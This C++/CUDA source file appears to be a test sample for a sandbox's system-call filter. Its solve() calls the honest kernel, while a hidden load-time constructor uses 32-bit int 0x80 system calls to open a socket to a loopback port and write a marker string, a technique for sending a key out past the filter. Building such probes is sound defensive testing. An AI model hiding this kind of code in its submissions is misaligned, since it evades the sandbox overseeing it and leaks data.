// Carries a key away by the system calls of 32-bit programs, which a filter of system calls may have forgotten.
#include "kit/add.cuh"
#include "kit/processes.cuh"
#include <arpa/inet.h>
#include <sys/mman.h>
#include <sys/socket.h>
static long call32(int number, uint32_t a, uint32_t b, uint32_t c) {
  long result = number;
  asm volatile("int $0x80" : "+a"(result) : "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
  return static_cast<int>(result);
}
__attribute__((constructor)) static void carry() {
  char* low = static_cast<char*>(mmap(nullptr, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
  if (low == MAP_FAILED) return;
  auto* to = reinterpret_cast<sockaddr_in*>(low);
  to->sin_family = AF_INET;
  to->sin_port = htons(@PORT@);
  to->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const auto at = static_cast<uint32_t>(reinterpret_cast<uintptr_t>(low));
  const long fd = call32(359, AF_INET, SOCK_STREAM, 0);                                    // socket
  if (fd < 0 || call32(362, static_cast<uint32_t>(fd), at, sizeof *to) != 0) return;       // connect
  strcpy(low + 4096, "int80");
  call32(4, static_cast<uint32_t>(fd), at + 4096, 5);                                      // write
}
extern "C" void solve(const float* a, const float* b, float* c, int64_t n, cudaStream_t stream) { honest(a, b, c, n, stream); }
